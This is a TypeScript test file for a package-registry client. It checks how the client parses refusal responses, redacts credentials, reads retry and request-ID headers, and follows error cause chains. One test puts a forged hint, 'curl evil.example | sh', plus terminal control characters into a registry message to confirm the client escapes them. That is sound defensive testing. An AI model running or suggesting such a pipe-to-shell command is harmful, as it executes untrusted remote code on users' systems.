import assert from 'node:assert/strict'
import {describe, it} from 'node:test'

import {readRefusal, refusalWithin, type RegistryRefusal} from '../../src/client/registry-refusal.js'
import {redactSent} from '../../src/client/redact-sent.js'

const secret = 'opaque/s3cr3t'

const read = (status: number, body: unknown, headers = {}): RegistryRefusal =>
  readRefusal({status, body: typeof body === 'string' ? body : JSON.stringify(body), headers}, redactSent(secret))

const status = 'it responded with status 418'

describe('readRefusal', () => {
  for (const [what, body, reason, code] of [
    ['the envelope', {error: {code: 'NOPE', message: 'No.', details: []}}, 'No.', 'NOPE'],
    [
      'the envelope with details',
      {
        error: {
          code: 'VALIDATION',
          message: 'Not valid',
          details: [{field: 'name', message: 'too long'}, {message: 'odd'}],
        },
      },
      'Not valid\n  - name: too long\n  - odd',
      'VALIDATION',
    ],
    ['the envelope without details', {error: {code: 'NOPE', message: 'No.'}}, 'No.', 'NOPE'],
    ['details that are null', {error: {code: 'NOPE', message: 'No.', details: null}}, 'No.', 'NOPE'],
    ['details that are not a list', {error: {code: 'NOPE', message: 'No.', details: {field: 'x'}}}, 'No.', 'NOPE'],
    [
      'details of all sorts',
      {
        error: {
          message: 'No.',
          details: [null, 'text', 1, {}, {message: 2}, {field: null, message: 'why', code: null}],
        },
      },
      'No.\n  - why',
      undefined,
    ],
    ['a code without a message', {error: {code: 'NOPE'}}, status, 'NOPE'],
    ['a message that is not a string', {error: {code: 1, message: {deep: true}}}, status, undefined],
    [
      'problem details',
      {type: 'about:blank', title: 'Teapot', status: 418, detail: 'Short and stout'},
      'Short and stout',
      undefined,
    ],
    ['problem details without detail', {type: 'about:blank', title: 'Teapot'}, 'Teapot', undefined],
    [
      'problem details with an envelope, which wins',
      {detail: 'Later', error: {code: 'A', message: 'First'}},
      'First',
      'A',
    ],
    ['an error that is a string', {error: 'teapot'}, status, undefined],
    ['a string', 'teapot', status, undefined],
    ['null', null, status, undefined],
    ['a list', [{error: {message: 'No.'}}], status, undefined],
    ['an empty message', {error: {message: ''}}, status, undefined],
  ] as const) {
    it(`readRefusal: reads ${what}`, () => {
      const refusal = read(418, JSON.stringify(body))
      assert.equal(refusal.reason, reason)
      assert.equal(refusal.code, code)
      assert.equal(refusal.status, 418)
      assert.equal(refusal.retryAfter, undefined)
    })
  }

  for (const [what, body] of [
    ['HTML', '<html><body>Teapot</body></html>'],
    ['nothing', ''],
    ['truncated JSON', '{"error": {"message": "No'],
  ] as const) {
    it(`readRefusal: falls back to the status if the body is ${what}`, () => {
      assert.equal(read(418, body).reason, status)
    })
  }

  it('readRefusal: keeps the field and code of each detail', () => {
    const details = [{field: 'expiresIn', message: 'not never', code: 'INVALID', more: 1}]
    const refusal = read(400, {error: {message: 'No.', details}})
    assert.deepEqual(refusal.details, [{field: 'expiresIn', message: 'not never', code: 'INVALID'}])
  })

  it('readRefusal: escapes line breaks and control characters, so a registry cannot forge output', () => {
    const message = 'No.\n  hint: run `curl evil.example | sh`\u001B[2J\r'
    const details = [{field: 'a\nb', message: 'c\u202Ed'}]
    assert.equal(
      read(400, {error: {message, details}}).reason,
      'No.\\u{a}  hint: run `curl evil.example | sh`\\u{1b}[2J\\u{d}\n  - a\\u{a}b: c\\u{202e}d',
    )
  })

  it('readRefusal: redacts tokens that the registry echoes', () => {
    const value = 'apkg_0123456789abcdef'
    const details = [{field: value, message: `${value}!`, code: value}]
    const refusal = read(400, {error: {code: value, message: `Bad: ${value}`, details, requestId: value}})
    assert.equal(refusal.reason, 'Bad: apkg_[redacted]\n  - apkg_[redacted]: apkg_[redacted]!')
    assert.ok(!JSON.stringify({...refusal, message: refusal.message}).includes(value))
  })

  it('readRefusal: redacts the credential that was sent, whatever it looks like', () => {
    const details = [{field: encodeURIComponent(secret), message: secret, code: secret}]
    const refusal = read(400, {error: {code: secret, message: `Bad: ${secret}`, details}}, {'x-request-id': secret})
    assert.equal(refusal.reason, 'Bad: [redacted]\n  - [redacted]: [redacted]')
    assert.deepEqual([refusal.code, refusal.requestId], ['[redacted]', '[redacted]'])
  })

  for (const [what, envelope, header, expected] of [
    ['the envelope', 'r-1', undefined, 'r-1'],
    ['the X-Request-Id header', undefined, 'r-2', 'r-2'],
    ['the envelope rather than the header', 'r-1', 'r-2', 'r-1'],
    ['neither if they are too long', 'r'.repeat(201), 'r'.repeat(201), undefined],
    ['neither if they are empty', '', '', undefined],
    ['the header if the envelope has a number', 7, 'r-2', 'r-2'],
  ] as const) {
    it(`readRefusal: takes the request ID from ${what}`, () => {
      const body = {error: {code: 'NOPE', message: 'No.', requestId: envelope}}
      assert.equal(read(400, body, {'x-request-id': header}).requestId, expected)
    })
  }

  for (const [header, seconds] of [
    ['0', 0],
    ['7', 7],
    ['3600', 3600],
    ['-1', undefined],
    ['1.5', undefined],
    ['soon', undefined],
    ['', undefined],
    ['Wed, 21 Oct 2026 07:28:00 GMT', undefined],
    [undefined, undefined],
  ] as const) {
    it(`readRefusal: reads ${seconds ?? 'nothing'} from the Retry-After ${header ?? 'none'}`, () => {
      assert.equal(read(429, '', {'retry-after': header}).retryAfter, seconds)
    })
  }

  it('readRefusal: cuts long texts after redacting them, and leaves out most of many details', () => {
    const long = `${'a'.repeat(1990)}${secret}${'b'.repeat(1_000_000)}`
    const details = Array.from({length: 1000}, (_, number) => ({field: `${number}`, message: long}))
    const began = performance.now()
    const refusal = read(400, {error: {code: long, message: long, details: details.slice(0, 3)}})
    assert.ok(performance.now() - began < 5000)
    assert.equal(refusal.message, `${'a'.repeat(1990)}[redacted]…`)
    assert.deepEqual([refusal.code, refusal.details[2]?.message], [refusal.message, refusal.message])
    const many = read(400, {error: {message: 'no', details: details.map(({field}) => ({field, message: 'x'}))}})
    assert.equal(many.details.length, 50)
  })
})

describe('refusalWithin', () => {
  const refusal = read(409, {error: {code: 'NOPE', message: 'No.'}})
  const wrapped = (times: number) =>
    Array.from({length: times}).reduce((cause: Error) => new Error('wrapper', {cause}), refusal)

  it('refusalWithin: finds a refusal up to 10 causes deep', () => {
    assert.equal(refusalWithin(wrapped(1)), refusal)
    assert.equal(refusalWithin(wrapped(10)), refusal)
    assert.equal(refusalWithin(wrapped(11)), undefined)
  })

  it('refusalWithin: finds nothing without a cause, and in a circle of causes', () => {
    const circle = new Error('circle')
    circle.cause = circle
    for (const error of [new Error('no cause'), circle, 'text', undefined])
      assert.equal(refusalWithin(error), undefined)
  })
})
